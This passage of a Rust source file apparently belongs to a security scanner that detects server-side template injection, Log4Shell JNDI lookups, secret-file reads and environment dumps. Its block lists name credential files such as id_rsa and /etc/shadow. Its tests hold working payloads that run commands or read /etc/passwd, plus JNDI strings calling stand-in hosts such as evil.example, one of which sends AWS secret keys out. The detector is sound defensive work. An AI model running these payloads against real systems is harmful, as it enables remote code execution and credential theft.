    "lower",
    "upper",
];

/// The first Log4j lookup in `text` (not JNDI) and whether it is one of
/// the obfuscating ones (`lower`, `upper`, an empty key with a default).
fn log4j_lookup(text: &str) -> Option<(Range<usize>, bool)> {
    let mut from = 0;
    while let Some(p) = text.get(from..).and_then(|r| super::find(r, "${")) {
        let start = from + p;
        let body = text.get(start + 2..).unwrap_or("");
        if body.starts_with("::-") {
            return Some((start..start + 5, true));
        }
        if let Some((prefix, _)) = body.split_once(':') {
            let prefix = prefix.to_ascii_lowercase();
            if LOG4J_PREFIXES.contains(&prefix.as_str()) {
                let end = body.find('}').map_or(text.len(), |e| start + 2 + e + 1);
                return Some((start..end, matches!(prefix.as_str(), "lower" | "upper")));
            }
        }
        from = start + 2;
    }
    None
}

/// The result of one Log4j lookup.
enum Lookup {
    /// A JNDI lookup.
    Jndi,
    /// The text it resolves to.
    Value(String),
}

/// Evaluates one lookup body (its inner lookups already resolved).
fn lookup(content: &str) -> Lookup {
    let trimmed = content.trim_start();
    if trimmed.to_ascii_lowercase().starts_with("jndi:") {
        return Lookup::Jndi;
    }
    if let Some((_, default)) = content.split_once(":-") {
        return Lookup::Value(default.to_owned());
    }
    let Some((prefix, rest)) = content.split_once(':') else {
        // Not a lookup (`${HOME}`, `${user.name}`): kept as written.
        return Lookup::Value(format!("${{{content}}}"));
    };
    Lookup::Value(match prefix.to_ascii_lowercase().as_str() {
        "lower" => rest.to_lowercase(),
        "upper" => rest.to_uppercase(),
        "date" => rest.chars().filter(|&c| c != '\'').collect(),
        "env" | "sys" | "java" | "ctx" | "main" | "bundle" | "map" | "sd" | "web" | "docker" | "k8s" | "spring" | "log4j"
        | "jvmrunargs" | "marker" | "event" | "base64" | "" => String::new(),
        _ => format!("${{{content}}}"),
    })
}

/// Whether a brace's `body` (and its squashed form) is a Smarty tag that
/// runs code: a call with a string argument or a command modifier, not a
/// statement (`;`), a comment (`{* *}`), `{?...}` or an ODBC `{call ...}`.
fn smarty_exec(body: &str, squashed: &str) -> bool {
    !body.contains(';')
        && !body.starts_with(['*', '?'])
        && !body.trim_start().starts_with("call ")
        && body.contains(['\'', '"', '`'])
        && (CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(squashed)) || exec_modifier(squashed))
}

/// The calls [`reads_file`] reads (each holds a `(`).
const READ_CALLS: &[&str] = &[
    "file.read(",
    "file.open(",
    "file.new(",
    "file.readlines(",
    "file.binread(",
    "file.foreach(",
    "io.read(",
    "io.readlines(",
    "io.binread(",
    "io.foreach(",
    "kernel.open(",
    "pathname.new(",
    "pathname(",
    "open(",
    "file.send(:read,",
    "file.public_send(:read,",
    "io.send(:read,",
];

/// What a file read names when it reads a secret ([`reads_file`]).
const READ_SECRETS: &[&str] = &[
    "master.key",
    "credentials",
    ".env",
    "secrets.yml",
    "secret_key",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "/.ssh/",
    ".aws/",
    ".kube/config",
    ".docker/config.json",
    ".git-credentials",
    ".netrc",
    ".npmrc",
    ".pgpass",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/ssl/private",
    "/proc/",
    "/root/",
    "/var/run/secrets/kubernetes.io",
    "/run/secrets/kubernetes.io",
    "serviceaccount/token",
    "database.yml",
];

/// A Ruby file read of a secret in a template expression (squashed: lower
/// case, no quotes or blanks): `File.open('/app/config/master.key').read`,
/// `IO.read('../../.env')`, `Kernel.open('/etc/shadow')`,
/// `File.read(File.expand_path('~/.aws/credentials'))`. The path climbs
/// out (`../`), or names a key, a credential store or a system secret,
/// wherever it is (Rails runs from the application's root, so
/// `config/master.key` is the master key). A configuration template
/// reading the secret a container was given (`/run/secrets/db_password`)
/// or a public file (`/etc/ssl/certs/...`) reads no more than it should.
fn reads_file(squashed: &str) -> bool {
    // (`match_indices` builds a searcher per call even where the call is
    // absent, as it nearly always is: the in-place test first.)
    // Every call is read (harmless reads before one of a secret do not
    // hide it), each over at most [`MAX_READ_ARG`] bytes.
    READ_CALLS
        .iter()
        .any(|call| super::has(squashed, call) && squashed.match_indices(call).any(|(i, _)| reads_secret_at(squashed, call, i)))
}

/// The most of a file read's argument [`reads_secret_at`] reads (squashed):
/// a path and the calls that build it are far shorter, and a bound on each
/// read keeps reading every one of them linear.
const MAX_READ_ARG: usize = 256;

/// Whether the call `call` at byte `i` of `squashed` ([`reads_file`])
/// reads a secret: its argument climbs out or names one.
fn reads_secret_at(squashed: &str, call: &str, i: usize) -> bool {
    // `open(` alone is Kernel's: not a method of something else.
    if call == "open(" && squashed.get(..i).and_then(|b| b.chars().next_back()).is_some_and(|c| c == '.' || c.is_alphanumeric() || c == '_')
    {
        return false;
    }
    let from = i + call.len();
    let arg = squashed.get(from..super::floor_char(squashed, from + MAX_READ_ARG)).unwrap_or("");
    let arg = arg.split(')').next().unwrap_or("");
    // A path joined from parts (`File.join('/', 'etc', 'shadow')`).
    let joined = arg.split_once("file.join(").map(|(_, parts)| parts.replace(',', "/"));
    let arg = joined.as_deref().unwrap_or_else(|| arg.split(',').next().unwrap_or(""));
    // The innermost call's argument (`file.expand_path(~/.aws/...`).
    let arg = arg.rsplit('(').next().unwrap_or(arg);
    // (Squashing reads `(.` as a squashed `[`: `('.env')` is `(env`.)
    let dotenv = matches!(arg, "env" | "env.local" | "env.production" | "env.development" | "env.staging");
    dotenv || super::has(arg, "../") || READ_SECRETS.iter().any(|s| super::has(arg, s))
}

/// Ruby's whole environment turned into text (`ENV.to_h.to_json`,
/// `JSON.dump(ENV.to_h)`, `ENV.map { ... }.join`, `Hash[ENV]`): every
/// variable, secrets included. (`Rails.env` is the environment's name.)
fn dumps_environment(core: &str) -> bool {
    const DUMPS: &[&str] = &[
        "env.to_h",
        "env.to_hash",
        "env.to_a",
        "env.inspect",
        "env.to_s",
        "env.to_json",
        "env.map",
        "env.sort",
        "env.each",
        "env.select",
        "env.filter",
        "env.values",
        "env.reduce",
        "env.collect",
    ];
    // (Every `env.`: the test at each is a few bytes, so reads of single
    // variables before the dump do not hide it.)
    core.match_indices("env.").any(|(i, _)| {
        let before = core.get(..i).unwrap_or("");
        let standalone = before.is_empty() || before.ends_with("::") || before.ends_with(['(', '=', '{', ' ', ',']);
        standalone && DUMPS.iter().any(|d| core.get(i..).is_some_and(|r| r.starts_with(d)))
    }) || super::has(core, "hash.env.")
        || core.ends_with("hash.env")
        || super::has(core, "json.dump(env)")
}

/// A Smarty modifier that is a PHP function running a command
/// (`{'id'|system}`, `{$cmd|passthru}`): Smarty calls it on the value.
fn exec_modifier(squashed: &str) -> bool {
    ["|system", "|exec", "|passthru", "|shell_exec", "|popen", "|proc_open", "|pcntl_exec"].iter().any(|m| squashed.ends_with(m))
}

/// Whether a lookup's target is elided (`${jndi:ldap://...}`,
/// `${${lower:j}ndi:...}`, `ldap://…/a`): dots or an ellipsis where the
/// host would be.
fn elided_target(lookup: &str) -> bool {
    let dots = |host: &str| !host.is_empty() && host.chars().all(|c| matches!(c, '.' | '…'));
    fn host(rest: &str) -> &str {
        rest.split(['/', '}', '?', '#', ':']).next().unwrap_or("")
    }
    // Every host the lookup names is elided (`${jndi:ldap://...}`; a real
    // one anywhere, `${::-l}dap://45.9.148.108/a/ndi:...`, is live) ...
    if super::has(lookup, "://") {
        return lookup.match_indices("://").all(|(i, _)| dots(host(lookup.get(i + 3..).unwrap_or(""))));
    }
    // ... or, without a scheme, all that follows the first `ndi:` is
    // (`${${lower:j}ndi:...}`).
    let lower = lookup.to_ascii_lowercase();
    let Some(i) = lower.find("ndi:") else { return false };
    let rest = lower.get(i + 4..).unwrap_or("");
    !rest.contains(':') && dots(host(rest))
}

/// Whether the host of the first URL in `lookup` is defanged
/// (`45.155.205[.]233`, `evil[dot]example`, `evil(.)example`).
fn defanged_host(lookup: &str) -> bool {
    let Some(i) = super::find(lookup, "://") else { return false };
    let rest = lookup.get(i + 3..).unwrap_or("");
    let host = rest.split(['/', '}', '?', '#']).next().unwrap_or("");
    ["[.]", "(.)", "[dot]", "(dot)"].iter().any(|d| super::has(host, d))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn top_in(text: &str, context: Context) -> Option<Confidence> {
        let s = Subject { text, context, field: "value", tool: "", decoded: false };
        let mut out = Vec::new();
        analyze(&s, &mut out);
        out.iter().map(|h| h.confidence).max()
    }

    fn top(text: &str) -> Option<Confidence> {
        top_in(text, Context::Unknown)
    }

    #[test]
    fn jndi_lookups_resolved() {
        for t in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
            "${${upper:J}NDI:dns://x}",
            "User-Agent: ${${date:'j'}ndi:iiop://x}",
            "${jndi:ldap://x/${env:AWS_SECRET_ACCESS_KEY}",
        ] {
            assert_eq!(top(t), Some(Confidence::High), "{t}");
        }
        assert_eq!(top("${HOME}/bin:${PATH:-/usr/bin}"), None);
        assert_eq!(top("spring.datasource.url=${DB_URL:jdbc:postgresql://db:5432/app}"), None);
        assert_eq!(top("jndi-name: java:comp/env/jdbc/app"), None);
    }

    #[test]
    fn log4j_lookups_without_jndi() {
        assert_eq!(top_in("${env:AWS_SECRET_ACCESS_KEY}", Context::Text), Some(Confidence::Medium));
        assert_eq!(top_in("name=${sys:user.name}", Context::Text), Some(Confidence::Medium));
        assert_eq!(top("${${lower:x}}"), Some(Confidence::Medium));
        assert_eq!(
            top_in("appender.file.fileName=${env:LOG_DIR:-/var/log/app}/app.log\nproperty.level=${sys:log.level:-INFO}", Context::Text),
            Some(Confidence::Low)
        );
        assert_eq!(top_in("<PatternLayout pattern=\"%d %msg ${sys:app.name:-api}%n\"/>", Context::Text), Some(Confidence::Low));
        assert_eq!(top("${DB_URL:jdbc:postgresql://db/app} ${HOME}"), None);
        assert_eq!(top_in("Write-Host ${env:Path}", Context::Shell), Some(Confidence::Low));
    }

    #[test]
    fn code_execution_walks() {
        for t in [
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
            "{{ ''['__cla'+'ss__'] }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
            "<%= `id` %>",
            "<%= system('cat /etc/passwd') %>",
            "#{ `whoami` }",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
            "{{['id']|filter('system')}}",
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
            "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
            "{php}echo `id`;{/php}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        ] {
            assert_eq!(top(t), Some(Confidence::High), "{t}");
        }
    }

    /// A reference to one named environment variable is a client's or a
    /// CI's substitution; the application's config and settings objects are
    /// what a leak walks.
    #[test]
    fn env_references_are_not_leaks() {
        let in_field = |text: &str, field: &str| {
            let s = Subject { text, context: Context::Unknown, field, tool: "http.request", decoded: false };
            let mut out = Vec::new();
            analyze(&s, &mut out);
            out.iter().map(|h| h.confidence).max()
        };
        assert!(in_field("Bearer {{env.STRIPE_SECRET_KEY}}", "authorization") < Some(Confidence::Medium));
        assert!(in_field("{{ process.env.STRIPE_SECRET_KEY }}", "x-api-key") < Some(Confidence::Medium));
        // Anywhere else the variable may be sent out.
        assert!(in_field("{{process.env.STRIPE_SECRET_KEY}}", "x-debug") >= Some(Confidence::Medium));
        assert!(top_in("{{ config.SECRET_KEY }}", Context::Unknown) >= Some(Confidence::Medium));
        assert!(top_in("{{ settings.SECRET_KEY }}", Context::Unknown) >= Some(Confidence::Medium));
        assert!(top_in("{{env.stripe_secret_key.__class__}}", Context::Unknown) >= Some(Confidence::Medium));
    }

    #[test]
    fn probes_and_leaks() {
        for t in [
            "{% print 7*7 %}",
            "{{ messages.storages.0.signer.key }}",
            "{7*7}",
            "{{= 7*7}}",
            "{{ settings.SECRET_KEY }}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{7*'7'}}",
            "${{7*7}}",
            "@(7*7)",
            "[[${7*7}]]",
            "{{config}}",
            "{{ config.items() }}",
            "{$smarty.version}",
        ] {
            assert_eq!(top(t), Some(Confidence::Medium), "{t}");
        }
        assert_eq!(top_in("{{7*7}}", Context::Code), Some(Confidence::Low));
    }

    #[test]
    fn legit_templates_are_quiet() {
        for t in [
            "Hello {{ user.name }}, your order {{ order.id }} ships {{ date | date: '%b %d' }}",
            "image: {{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}",
            "run: echo ${{ github.sha }} && curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\"",
            "{% for item in items %}<li>{{ loop.index }} {{ item.title|e }}</li>{% endfor %}",
            "{% set ns = namespace(found=false) %}{% for x in xs %}{% if x %}{% set ns.found = true %}{% endif %}{% endfor %}",
            "image: ${REGISTRY:-ghcr.io}/app:${TAG:-latest}",
            "resource \"aws_s3_bucket\" \"b\" { bucket = \"${var.prefix}-logs\" }",
            "server.port=${PORT:8080}",
            "const msg = `Hi ${user.name}, you have ${count} new ${count === 1 ? 'message' : 'messages'}`;",
            "You have {count, plural, one {# item} other {# items}}",
            "<%= link_to @user.name, user_path(@user) %>",
            "{{#each people}}<li>{{this.firstName}}</li>{{/each}}",
            "{{ range .Items }}{{ .Name }}{{ end }}",
            "Contact us at support@example.com or #general",
            "<p>Generated <%= new java.util.Date() %> by ${T(java.time.LocalDate).now()}</p>",
        ] {
            assert!(top(t) < Some(Confidence::Medium), "{t}: {:?}", top(t));
        }
    }

    #[test]
    fn quoted_in_markdown_code_is_low() {
        let doc = "SSTI check: send `{{7*7}}` and then ```\n{{ ''.__class__.__mro__ }}\n``` to see the class list.";
        assert_eq!(top_in(doc, Context::Text), Some(Confidence::Low));
        assert_eq!(top_in("Dear {{ ''.__class__.__mro__[1].__subclasses__() }}", Context::Text), Some(Confidence::High));
    }

    #[test]
    fn bare_expression_language() {
        assert_eq!(top("T(java.lang.Runtime).getRuntime().exec('id')"), Some(Confidence::Medium));
        assert_eq!(top("x.__globals__"), Some(Confidence::Medium));
        assert_eq!(top_in("def f(cls): return cls.__subclasses__()", Context::Code), None);
    }

    #[test]
    fn go_template_command_calls() {
        assert_eq!(top("{{ .System \"id\" }}"), Some(Confidence::High));
        assert_eq!(top("{{ exec \"id\" }}"), Some(Confidence::High));
        assert_eq!(top("{{ include \"app.labels\" . | nindent 4 }}"), None);
        assert_eq!(top("{{ .Site.GetPage \"/about\" }}"), None);
    }

    #[test]
    fn jndi_explained_in_prose_is_low() {
        let wiki = "Log4Shell (CVE-2021-44228) was a zero-day vulnerability in Log4j. The exploit string has the form ${jndi:ldap://example.com/a}, causing the server to perform a JNDI lookup.";
        assert_eq!(top_in(wiki, Context::Text), Some(Confidence::Low));
        let advisory = "Our services are not affected. We added WAF rules that block lookup strings such as ${jndi:ldap://...} in headers. Contact us with questions.";
        assert_eq!(top_in(advisory, Context::Text), Some(Confidence::Low));
        assert_eq!(top_in("fix typo ${jndi:ldaps://x.attacker.example:636/Exploit}", Context::Text), Some(Confidence::High));
        assert_eq!(
            top_in("Hello team. Please check ${jndi:ldap://198.51.100.7/a} when you can. Thanks for the help.", Context::Text),
            Some(Confidence::High)
        );
    }
    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]
        /// `reads_file` skips the calls a text lacks: it says what reading
        /// every call's matches says.
        #[test]
        fn file_reads_skip_absent_calls(parts in proptest::collection::vec((0usize..3, 0usize..64, "[a-z./(),:~_ ]{0,6}"), 0..8)) {
            let text: String = parts
                .iter()
                .map(|(kind, i, free)| match kind {
                    0 => READ_CALLS.get(i % READ_CALLS.len()).copied().unwrap_or(""),
                    1 => READ_SECRETS.get(i % READ_SECRETS.len()).copied().unwrap_or(""),
                    _ => free.as_str(),
                })
                .collect();
            let every = READ_CALLS.iter().any(|call| text.match_indices(call).any(|(i, _)| reads_secret_at(&text, call, i)));
            proptest::prop_assert_eq!(reads_file(&text), every);
        }
    }
}

#[cfg(test)]
mod perf {
    use super::*;

    /// Adversarial inputs finish in time linear in their size (a quadratic
    /// scan of 64 KiB would take tens of seconds).
    #[test]
    fn adversarial_inputs_are_linear() {
        let n = 64 * 1024;
        let inputs = [
            "{".repeat(n),
            "${".repeat(n / 2) + "jndi",
            "${lower:j}".repeat(n / 10) + "${jndi",
            "<%".repeat(n / 2),
            "[[".repeat(n / 2),
            "@(".repeat(n / 2),
            "#a(".repeat(n / 3),
            "$a(".repeat(n / 3),
            "{{a}}".repeat(n / 5),
            "../".repeat(n / 3),
            "..%2f".repeat(n / 5),
            "%c0%ae".repeat(n / 6),
            "a/b/../c ".repeat(n / 9),
        ];
        for text in &inputs {
            let started = std::time::Instant::now();
            for context in [Context::Unknown, Context::Text, Context::Path] {
                let s = Subject { text, context, field: "value", tool: "", decoded: false };
                let mut out = Vec::new();
                analyze(&s, &mut out);
                super::super::path::analyze(&s, &mut out);
            }
            let took = started.elapsed();
            assert!(took.as_secs() < 5, "{:?}: {took:?}", text.get(..12));
            println!("{:>14?} {:?}", took, text.get(..12));
        }
    }
}

#[cfg(test)]
mod bench_corpus {
    use super::*;

    /// Throughput over the corpus strings (run with --ignored --nocapture).
    #[test]
    #[ignore = "a measurement, not a check"]
    fn corpus_throughput() {
        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/corpus/payloads");
        let mut strings = Vec::new();
        fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
            match v {
                serde_json::Value::String(s) => out.push(s.clone()),
                serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
                serde_json::Value::Object(m) => m.iter().for_each(|(k, x)| {
                    out.push(k.clone());
                    walk(x, out)
                }),
                _ => {}
            }
        }
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            for line in std::fs::read_to_string(&p).unwrap().lines() {
                let v: serde_json::Value = serde_json::from_str(line).unwrap();
                walk(&v["payload"], &mut strings);
            }
        }
        let bytes: usize = strings.iter().map(String::len).sum();
        let rounds = 50;
        for which in ["template", "path"] {
            let started = std::time::Instant::now();
            let mut n = 0;
            for _ in 0..rounds {
                for t in &strings {
                    for context in [Context::Unknown, Context::Text] {
                        let s = Subject { text: t, context, field: "value", tool: "", decoded: false };
                        let mut out = Vec::new();
                        if which == "template" {
                            analyze(&s, &mut out);
                        } else {
                            super::super::path::analyze(&s, &mut out);
                        }
                        n += out.len();
                    }
                }
            }
            let per_kib = started.elapsed().as_secs_f64() * 1e6 / (rounds as f64 * 2.0 * bytes as f64 / 1024.0);
            println!("{which}: {} strings, {bytes} bytes, {n} hits, {per_kib:.2} us/KiB", strings.len());
        }
        // One large document made of every string (the per-call overhead amortized).
        let doc = strings.join("\n");
        for which in ["template", "path"] {
            let started = std::time::Instant::now();
            for _ in 0..rounds {
                for context in [Context::Unknown, Context::Text, Context::Code] {
                    let s = Subject { text: &doc, context, field: "value", tool: "", decoded: false };
                    let mut out = Vec::new();
                    if which == "template" {
                        analyze(&s, &mut out);
                    } else {
                        super::super::path::analyze(&s, &mut out);
                    }
                }
            }
            let per_kib = started.elapsed().as_secs_f64() * 1e6 / (rounds as f64 * 3.0 * doc.len() as f64 / 1024.0);
            println!("{which}: one document of {} bytes, {per_kib:.2} us/KiB", doc.len());
        }
    }
}
